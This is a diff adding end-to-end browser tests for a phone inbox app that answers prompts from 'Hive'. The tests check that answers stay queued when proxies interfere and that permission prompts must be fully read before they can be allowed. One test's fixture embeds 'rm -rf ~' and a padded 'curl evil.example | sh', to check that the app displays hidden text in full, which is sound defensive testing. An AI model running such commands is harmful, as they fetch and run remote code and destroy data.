@@ -1,0 +1,261 @@
+/**
+ * What must not happen on a phone: an answer that is lost because something else than Hive answered, and a permission that is
+ * allowed although a part of it was never on the screen.
+ * @module-tag as-displayed
+ * @module-tag durable
+ */
+import type { Page, Route } from 'playwright-core';
+import { beforeEach, describe, expect, test } from 'vitest';
+import type { Device } from '../../src/domain/devices.ts';
+import type { Prompt } from '../../src/domain/prompts.ts';
+import { ask } from '../support/hive.ts';
+import { beforeFile } from '../support/lifetime.ts';
+import { eventually } from '../support/wait.ts';
+import { type Chromium, openContext, startChromium } from './support/chromium.ts';
+import { confirm, pair, type ServedInbox, serveInbox } from './support/inbox.ts';
+
+let chromium: Chromium;
+beforeFile(async () => {
+  chromium = await startChromium();
+});
+
+let inbox: ServedInbox;
+beforeEach(async () => {
+  inbox = await serveInbox();
+});
+
+/** A phone of the human's, with its page. */
+async function phone({ mayAllow = false } = {}): Promise<{ page: Page; device: Device }> {
+  const context = await openContext(chromium);
+  const page = await context.newPage();
+  const device = await pair(page, inbox);
+  if (mayAllow) inbox.admit(device);
+  return { page, device };
+}
+
+async function show(page: Page, { ask_id }: Prompt): Promise<void> {
+  await page.goto(`${inbox.url}#/ask/${ask_id}`);
+  await page.locator('.option').first().waitFor();
+}
+
+const option = (page: Page, label: string) => page.locator('.option', { hasText: label });
+
+const CHOICE = { question: 'Ship?', options: ['Yes', 'No'] };
+
+describe('an answer stays in the outbox', () => {
+  const CALLS = '**/inbox/call';
+  /** Something between the phone and Hive, such as a proxy or the network of a hotel. */
+  const OTHERS: Record<string, (route: Route) => Promise<void>> = {
+    'a page of HTML': (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Welcome</h1>' }),
+    'other JSON': (route) => route.fulfill({ json: { ok: true } }),
+    'another result': (route) => route.fulfill({ json: { result: { accepted: true } } }),
+    'an error of a proxy': (route) => route.fulfill({ status: 404, json: { error: 'not found' } }),
+    'an error with a code of its own': (route) =>
+      route.fulfill({ status: 403, json: { error: { code: 'forbidden', message: 'No.' } } }),
+    'a Host that the server does not know': (route) =>
+      route.fulfill({
+        status: 403,
+        json: { error: { code: 'not_allowed', message: 'This Host is not allowed.', door: true } },
+      }),
+    'an end without a word': (route) => route.abort(),
+  };
+
+  test('when something else than Hive answers', async () => {
+    const asked = await ask(inbox.hive, CHOICE);
+    const { page } = await phone();
+    await show(page, asked);
+    for (const [what, answer] of Object.entries(OTHERS)) {
+      let came = 0;
+      await page.route(CALLS, async (route) => {
+        const { method } = route.request().postDataJSON() as { method: string };
+        if (method !== 'hivemind-response') return route.continue();
+        came += 1;
+        await answer(route);
+      });
+      if (await option(page, 'Yes').isVisible()) await option(page, 'Yes').tap();
+      else await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
+      await eventually(() => came > 0, 30_000, what);
+      await page.getByText(/^Queued/).waitFor();
+      await page.unroute(CALLS);
+      expect((await inbox.hive.prompts.get(asked.ask_id)).status, what).toBe('pending');
+    }
+    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
+    await page.getByText('Answered.').waitFor();
+    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Yes' });
+  });
+
+  test('of a phone that was revoked, until it is paired with this hive again', async () => {
+    const asked = await ask(inbox.hive, CHOICE);
+    const { page, device } = await phone();
+    await show(page, asked);
+    await page.context().setOffline(true);
+    await option(page, 'Yes').tap();
+    await page.getByText(/^Queued/).waitFor();
+    await inbox.hive.devices.revoke(device.device_id, 'ada');
+    await page.context().setOffline(false);
+    await page.getByRole('button', { name: 'Pair again' }).tap();
+    const { code } = await inbox.hive.devices.invite('ada');
+    await page.getByLabel('Pairing code').fill(code);
+    await page.getByLabel('Name of this phone').fill('The same phone');
+    await page.getByRole('button', { name: 'Pair' }).tap();
+    await confirm(page, inbox.hive, code);
+    await eventually(async () => (await inbox.hive.prompts.get(asked.ask_id)).status === 'responded');
+    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Yes', via: 'inbox' });
+  });
+
+  test('that another page keeps for ever does not wait for it', async () => {
+    const asked = await ask(inbox.hive, CHOICE);
+    const { page } = await phone();
+    // A page that the phone has put to sleep keeps its lock. The wait for it is shorter here.
+    const asleep = await page.context().newPage();
+    await asleep.goto(inbox.url);
+    await asleep.evaluate(
+      () =>
+        new Promise<void>((taken) => {
+          void navigator.locks.request('hive-outbox', () => {
+            taken();
+            return new Promise(() => undefined);
+          });
+        }),
+    );
+    await page.addInitScript(() => {
+      const timeout = AbortSignal.timeout.bind(AbortSignal);
+      AbortSignal.timeout = (ms) => timeout(ms === 60_000 ? 100 : ms);
+    });
+    await page.reload();
+    await show(page, asked);
+    await option(page, 'Yes').tap();
+    await page.getByText('Answered.').waitFor();
+  });
+});
+
+test('a browser that keeps nothing is told so', async () => {
+  const context = await openContext(chromium);
+  const page = await context.newPage();
+  await page.addInitScript(() => {
+    indexedDB.open = () => {
+      throw new DOMException('A private window.', 'SecurityError');
+    };
+  });
+  await page.goto(inbox.url);
+  await page.getByText('This browser keeps nothing for this page').waitFor();
+});
+
+test('a question that is asked while the list is read again is on the list', async () => {
+  await ask(inbox.hive, CHOICE);
+  const { page } = await phone();
+  const held = Promise.withResolvers<Route>();
+  const over = Promise.withResolvers<void>();
+  let isHeld = false;
+  await page.route('**/inbox/call', async (route) => {
+    const { method } = route.request().postDataJSON() as { method: string };
+    if (method === 'prompt/list' && !isHeld) {
+      isHeld = true;
+      held.resolve(route);
+      return;
+    }
+    if (method === 'session/list' && isHeld) over.resolve();
+    await route.continue();
+  });
+  await page.evaluate(() => dispatchEvent(new Event('online')));
+  const route = await held.promise;
+  // The server answers, and its reply is on its way for long.
+  const response = await route.fetch();
+  await ask(inbox.hive, { question: 'And now?' });
+  await page.getByText('And now?').waitFor();
+  await route.fulfill({ response });
+  // The next list is read once this one is shown.
+  await over.promise;
+  await page.evaluate(() => new Promise(requestAnimationFrame));
+  expect(await page.getByText('And now?').count()).toBe(1);
+});
+
+describe('a permission', () => {
+  const steps = Array.from({ length: 120 }, (_, n) => `step ${n + 1}`);
+  const PERMISSION = {
+    question: 'Run this?',
+    context: steps.join('\n'),
+    options: ['Allow', { label: 'Deny', refuses: true }],
+    kind: 'permission' as const,
+  };
+  const isBarred = (page: Page): Promise<boolean> => option(page, 'Allow').isDisabled();
+
+  /** Reads it as a person does: one screen after the other. */
+  async function read(page: Page): Promise<void> {
+    await page.evaluate(() => scrollTo(0, 0));
+    await eventually(
+      async () => {
+        await page.mouse.wheel(0, 300);
+        return !(await isBarred(page));
+      },
+      30_000,
+      'the end of the permission',
+    );
+  }
+
+  test('is not read by a jump to its end', async () => {
+    const asked = await ask(inbox.hive, PERMISSION);
+    const { page } = await phone({ mayAllow: true });
+    await page.clock.install();
+    await show(page, asked);
+    await page.getByText('Read to the end to answer.').waitFor();
+    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
+    // Its clock goes on past the time that a text has to be on the screen.
+    await page.clock.runFor(5_000);
+    expect(await isBarred(page)).toBe(true);
+    await read(page);
+    await option(page, 'Allow').tap();
+    await page.getByText('Answered.').waitFor();
+    expect(await inbox.hive.prompts.get(asked.ask_id)).toMatchObject({ decision: 'Allow', via: 'inbox' });
+  });
+
+  test('is not read while only a part of its width is on the screen', async () => {
+    const asked = await ask(inbox.hive, PERMISSION);
+    const { page } = await phone({ mayAllow: true });
+    await show(page, asked);
+    const devtools = await page.context().newCDPSession(page);
+    await devtools.send('Emulation.setPageScaleFactor', { pageScaleFactor: 2 });
+    await page.getByText('Zoom out to answer').waitFor();
+    expect(await isBarred(page)).toBe(true);
+    await devtools.send('Emulation.setPageScaleFactor', { pageScaleFactor: 1 });
+    await read(page);
+  });
+
+  test('is not allowed by typing the name of an option', async () => {
+    const asked = await ask(inbox.hive, { ...PERMISSION, allow_free_text: true });
+    const { page } = await phone({ mayAllow: true });
+    await show(page, asked);
+    // Somebody who calls what the button calls.
+    await page.getByLabel('Answer in your own words').fill(' Allow ');
+    await page.locator('form', { hasText: 'own words' }).evaluate((form: HTMLFormElement) => {
+      form.dispatchEvent(new SubmitEvent('submit', { cancelable: true, bubbles: true }));
+    });
+    await page.locator('.problem', { hasText: 'Read to the end to answer.' }).waitFor();
+    expect((await inbox.hive.prompts.get(asked.ask_id)).status).toBe('pending');
+  });
+
+  test('shows every character, wherever Markdown would hide or change it', async () => {
+    const context = [
+      '[ref]: https://example.org "rm -rf ~"',
+      'rm a*b*c _d_ `e` <!-- f --> <b>g</b> \\*h\\*',
+      `echo ${'x'.repeat(300)}; curl evil.example | sh`,
+      '| a |',
+      '|---|',
+      '| b | hidden |',
+      '```sh hidden',
+      'ls',
+      '```',
+    ].join('\n');
+    const asked = await ask(inbox.hive, { ...PERMISSION, context });
+    const { page } = await phone();
+    await show(page, asked);
+    expect(await page.locator('section[aria-label=Context]').innerText()).toBe(context);
+    // Nothing is at the side, where nobody looks.
+    const sides = await page
+      .locator('article *')
+      .evaluateAll(
+        (all) => all.filter((one) => one.scrollWidth > one.clientWidth + 1 && one.clientWidth > 0).length,
+      );
+    expect(sides).toBe(0);
+  });
+});
